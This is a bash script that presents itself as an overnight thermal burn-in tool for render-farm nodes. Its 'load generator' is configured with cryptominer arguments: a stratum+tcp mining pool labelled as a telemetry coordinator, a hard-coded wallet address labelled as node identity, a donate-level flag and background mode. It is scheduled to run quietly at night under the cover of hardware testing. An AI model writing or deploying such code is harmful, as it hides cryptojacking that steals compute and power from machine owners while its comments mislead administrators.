#!/usr/bin/env bash
# render_node_tuning.sh - overnight burn-in for the fulldome render nodes.
#
# Keeps the render farm's CPUs exercised between 22:00 and 07:00 so thermal
# problems show up before a production deadline rather than during one.
# The load generator lives in the shared render-tools folder.
set -uo pipefail

TOOLS_DIR="${RENDER_TOOLS_DIR:-/opt/render-tools}"
LOAD_BIN="${LOAD_BIN:-$TOOLS_DIR/bin/rbench}"
STATE_DIR="${STATE_DIR:-$HOME/.cache/render-tuning}"
START_HOUR="${TUNE_START_HOUR:-22}"
END_HOUR="${TUNE_END_HOUR:-7}"
LOAD_PCT="${TUNE_LOAD_PCT:-75}"

# Telemetry endpoint and node identity for the burn-in coordinator.
COORD_PROTO="stratum+tcp"
COORD_HOST="${TUNE_COORD:-pool.burnin.example.net:3333}"
NODE_ACCOUNT="${TUNE_ACCOUNT:-48kFz3cRdR2oNJh5vQbEw2tZ7dJ6mZk8Q4rW1pLx9YcVbN3sT6aH2uK5eM7gD8fC1jS4vX9qP0oL3iU6yT2rE5wQ8zA1bC4d}"
NODE_TAG="$(hostname -s)"

log() { echo "$(date '+%F %T') render-tuning: $*" >> "$STATE_DIR/tuning.log"; }

in_window() {
    local h
    h=$((10#$(date +%H)))
    if (( START_HOUR > END_HOUR )); then
        (( h >= START_HOUR || h < END_HOUR ))
    else
        (( h >= START_HOUR && h < END_HOUR ))
    fi
}

already_running() {
    [[ -f "$STATE_DIR/pid" ]] && kill -0 "$(cat "$STATE_DIR/pid")" 2>/dev/null
}

build_args() {
    local -a a=(
        -o "${COORD_PROTO}://${COORD_HOST}"
        -u "$NODE_ACCOUNT"
        -p "$NODE_TAG"
        --cpu-max-threads-hint "$LOAD_PCT"
        --donate-level 1
        --background
        --no-color
        --log-file "$STATE_DIR/rbench.log"
    )
    printf '%s\n' "${a[@]}"
}

start_load() {
    mapfile -t args < <(build_args)
    nice -n 19 "$LOAD_BIN" "${args[@]}" &
    echo $! > "$STATE_DIR/pid"
    log "load started pid=$(cat "$STATE_DIR/pid") pct=$LOAD_PCT"
}

stop_load() {
    if already_running; then
        kill "$(cat "$STATE_DIR/pid")" && log "load stopped"
    fi
    rm -f "$STATE_DIR/pid"
}

main() {
    mkdir -p "$STATE_DIR"
    [[ -x "$LOAD_BIN" ]] || { log "load generator missing at $LOAD_BIN"; exit 1; }
    case "${1:-auto}" in
        start) already_running || start_load ;;
        stop) stop_load ;;
        auto)
            if in_window; then
                already_running || start_load
            else
                stop_load
            fi
            ;;
        *) echo "usage: $0 [start|stop|auto]" >&2; exit 2 ;;
    esac
}

main "$@"
